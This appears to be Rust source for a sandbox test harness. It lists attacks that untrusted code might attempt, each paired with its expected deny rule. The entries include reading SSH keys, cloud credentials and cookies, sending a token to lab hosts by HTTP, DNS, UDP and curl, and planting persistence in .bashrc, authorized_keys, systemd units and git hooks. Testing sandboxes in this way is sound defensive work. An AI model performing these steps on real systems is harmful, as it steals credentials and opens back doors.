//! What a run may be made to do by somebody who gets code into it, in one of the languages that workloads run anyway.
//!
//! Each attack is a few steps, and leaves something behind by which is seen whether it came through: what it read lies in
//! [`LOOT`], what it wrote or sent is where it went. A step that fails does not keep the next ones from being tried.

/// In the workspace: `begun`, and what was read or said.
pub const LOOT: &str = "loot.txt";

/// An attack, with `HOME`, `WORK`, `TOKEN` and `OUTSIDER` (a process outside) in its words.
#[derive(Debug)]
pub struct Attack {
    pub name: &'static str,
    /// The function of the prelude, then its arguments.
    pub steps: &'static [&'static [&'static str]],
    pub effect: Effect,
    /// Parts of objects of which one at least must be denied for it to be stopped.
    pub denied: &'static [&'static str],
}

/// How it is seen that it came through.
#[derive(Debug)]
pub enum Effect {
    /// It has this in its loot.
    Loot(&'static str),
    /// This file holds this.
    File(&'static str, &'static str),
    /// A server of the laboratory tells of it.
    Arrived(&'static str),
    /// The program behind the socket outside was told.
    Whispered,
}

use Effect::{Arrived, File, Loot, Whispered};

const fn attack(
    name: &'static str,
    steps: &'static [&'static [&'static str]],
    effect: Effect,
    denied: &'static [&'static str],
) -> Attack {
    Attack { name, steps, effect, denied }
}

const ID: &str = "/usr/bin/id";

/// So many of them, as far as there are so many: some of each kind, with their numbers.
pub fn some(count: usize) -> impl Iterator<Item = (usize, &'static Attack)> {
    let count = count.min(ATTACKS.len());
    (0..count).map(move |at| at * ATTACKS.len() / count).map(|number| (number, &ATTACKS[number]))
}

/// All of them.
pub const ATTACKS: &[Attack] = &[
    // Credentials, and what else is nobody's business.
    attack("ssh-key", &[&["get", "HOME/.ssh/id_ed25519"]], Loot("SECRET-key"), &[".ssh/id_ed25519"]),
    attack("cloud", &[&["get", "HOME/.aws/credentials"]], Loot("SECRET-cloud"), &[".aws/credentials"]),
    attack("forge", &[&["get", "HOME/.git-credentials"]], Loot("SECRET-forge"), &[".git-credentials"]),
    attack(
        "browser",
        &[&["get", "HOME/.config/chromium/Default/Cookies"]],
        Loot("SECRET-cookie"),
        &["Cookies"],
    ),
    attack("history", &[&["get", "HOME/.bash_history"]], Loot("SECRET-history"), &[".bash_history"]),
    attack("letters", &[&["get", "HOME/Documents/letter.txt"]], Loot("SECRET-letter"), &["letter.txt"]),
    attack(
        "other-project",
        &[&["get", "HOME/work/other-project/.env"]],
        Loot("SECRET-project"),
        &["other-project"],
    ),
    attack("environ", &[&["get", "/proc/OUTSIDER/environ"]], Loot("SECRET-environ"), &["environ"]),
    // Ways out.
    attack("post", &[&["post", "203.0.113.84", "80", "TOKEN"]], Arrived("TOKEN"), &["203.0.113.84"]),
    attack(
        "post-by-name",
        &[&["post", "denied.lab.test", "80", "TOKEN"]],
        Arrived("TOKEN"),
        &["denied.lab.test", "203.0.113.84"],
    ),
    attack("neighbour", &[&["post", "203.0.113.92", "80", "TOKEN"]], Arrived("TOKEN"), &["203.0.113.92"]),
    attack(
        "other-port",
        &[&["post", "203.0.113.91", "80", "TOKEN"]],
        Arrived("TOKEN"),
        &["203.0.113.91", "registry.npmjs.org:80"],
    ),
    attack(
        "tunnel",
        &[&["ask", "TOKEN.denied.lab.test"]],
        Arrived("TOKEN"),
        &["denied.lab.test", "203.0.113.53", "resolver"],
    ),
    attack("datagram", &[&["datagram", "203.0.113.54", "53", "TOKEN"]], Arrived("rogue "), &["203.0.113.54"]),
    attack(
        "local-service",
        &[&["post", "127.0.0.1", "5432", "TOKEN"]],
        Arrived("database accept"),
        &["127.0.0.1:5432", "localhost:5432"],
    ),
    attack("agent-socket", &[&["whisper", "HOME/.agent/agent.sock", "TOKEN"]], Whispered, &["agent.sock"]),
    attack("back-door", &[&["serve", "0.0.0.0", "4444"]], Loot("listening"), &["0.0.0.0:4444"]),
    // What runs later.
    attack(
        "shell-settings",
        &[&["add", "HOME/.bashrc", "TOKEN"]],
        File("HOME/.bashrc", "TOKEN"),
        &[".bashrc"],
    ),
    attack(
        "user-unit",
        &[&["put", "HOME/.config/systemd/user/x.service", "TOKEN"]],
        File("HOME/.config/systemd/user/x.service", "TOKEN"),
        &[".config/systemd"],
    ),
    attack(
        "authorized-keys",
        &[&["add", "HOME/.ssh/authorized_keys", "TOKEN"]],
        File("HOME/.ssh/authorized_keys", "TOKEN"),
        &["authorized_keys"],
    ),
    attack(
        "path",
        &[&["put", "HOME/.local/bin/git", "TOKEN"]],
        File("HOME/.local/bin/git", "TOKEN"),
        &[".local"],
    ),
    attack(
        "hook",
        &[&["put", "HOME/work/other-project/.git/hooks/pre-commit", "TOKEN"]],
        File("HOME/work/other-project/.git/hooks/pre-commit", "TOKEN"),
        &["hooks/pre-commit"],
    ),
    attack(
        "site-packages",
        &[&["put", "HOME/.local/lib/python3.11/site-packages/usercustomize.py", "TOKEN"]],
        File("HOME/.local/lib/python3.11/site-packages/usercustomize.py", "TOKEN"),
        &[".local"],
    ),
    attack(
        "git-settings",
        &[&["add", "HOME/.gitconfig", "TOKEN"]],
        File("HOME/.gitconfig", "TOKEN"),
        &[".gitconfig"],
    ),
    // Programs that are brought along.
    attack(
        "temporary",
        &[&["copy", ID, "/tmp/TOKEN"], &["start", "/tmp/TOKEN", "", ""]],
        Loot("uid="),
        &["TOKEN"],
    ),
    attack(
        "workspace",
        &[&["copy", ID, "WORK/.x/helper"], &["start", "WORK/.x/helper", "", ""]],
        Loot("uid="),
        &[".x/helper"],
    ),
    attack(
        "cache",
        &[&["copy", ID, "HOME/.cache/updater/helper"], &["start", "HOME/.cache/updater/helper", "", ""]],
        Loot("uid="),
        &[".cache/updater"],
    ),
    attack(
        "shared-memory",
        &[&["copy", ID, "/dev/shm/TOKEN"], &["start", "/dev/shm/TOKEN", "", ""]],
        Loot("uid="),
        &["TOKEN"],
    ),
    // Ways round.
    attack(
        "hard-link",
        &[&["hard", "HOME/.ssh/id_ed25519", "WORK/copied"], &["get", "WORK/copied"]],
        Loot("SECRET-key"),
        &[".ssh/id_ed25519"],
    ),
    attack(
        "symbolic-link",
        &[&["soft", "HOME/.aws/credentials", "WORK/linked"], &["get", "WORK/linked"]],
        Loot("SECRET-cloud"),
        &[".aws/credentials"],
    ),
    attack(
        "rename",
        &[&["relocate", "HOME/Documents/letter.txt", "WORK/letter.txt"], &["get", "WORK/letter.txt"]],
        Loot("SECRET-letter"),
        &["Documents/letter.txt"],
    ),
    attack(
        "own-root",
        &[&["get", "/proc/self/root/HOME/.ssh/id_ed25519"]],
        Loot("SECRET-key"),
        &[".ssh/id_ed25519"],
    ),
    attack("loader", &[&["start", "/lib64/ld-linux-x86-64.so.2", ID, ""]], Loot("uid="), &["ld-linux"]),
    attack("namespace", &[&["start", "/usr/bin/unshare", "-r", ID]], Loot("uid="), &["/usr/bin/unshare"]),
    // Programs that are there, and none of the work's.
    attack("who-am-i", &[&["start", ID, "", ""]], Loot("uid="), &[ID]),
    attack(
        "interpreter",
        &[&["start", "/usr/bin/perl", "-e", "print 'PW' . 'NED'"]],
        Loot("PWNED"),
        &["/usr/bin/perl"],
    ),
    attack(
        "downloader",
        &[&["start", "/usr/bin/curl", "-s", "http://203.0.113.84/TOKEN"]],
        Arrived("TOKEN"),
        &["/usr/bin/curl", "203.0.113.84"],
    ),
];

/// A language that attacks are written in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Language {
    Python,
    Node,
    C,
    Rust,
    Shell,
}

/// What stands for something in an attack's words.
#[derive(Debug)]
pub struct Words<'a> {
    pub home: &'a str,
    pub work: &'a str,
    pub token: &'a str,
    pub outsider: u32,
}

impl Words<'_> {
    /// A word with what it stands for.
    pub fn of(&self, word: &str) -> String {
        let text = word.replace("/HOME/", &format!("{}/", self.home)).replace("HOME", self.home);
        let text = text.replace("WORK", self.work).replace("TOKEN", self.token);
        text.replace("OUTSIDER", &self.outsider.to_string())
    }
}

impl Language {
    /// What declares the functions.
    pub fn prelude(self) -> &'static str {
        match self {
            Self::Python => include_str!("preludes/attack.py"),
            Self::Node => include_str!("preludes/attack.js"),
            Self::C => include_str!("preludes/attack.c"),
            Self::Rust => include_str!("preludes/attack.rs.txt"),
            Self::Shell => include_str!("preludes/attack.sh"),
        }
    }

    /// The attack's steps as calls of these functions.
    pub fn calls(self, attack: &Attack, words: &Words<'_>) -> String {
        let loot = ["finish", "WORK/loot.txt"];
        let steps = attack.steps.iter().copied().chain([&loot[..]]);
        let calls = steps.map(|step| {
            let arguments: Vec<String> =
                step.iter().skip(1).map(|word| format!("\"{}\"", words.of(word))).collect();
            let (name, list) = (step[0], arguments.join(", "));
            match self {
                Self::Python => format!("{name}({list})\n"),
                Self::Node => format!("await {name}({list});\n"),
                Self::C => format!("{name}({list});\n"),
                Self::Rust => format!("attack::{name}({list});\n"),
                Self::Shell => format!("{name} {}\n", arguments.join(" ")),
            }
        });
        calls.collect()
    }
}
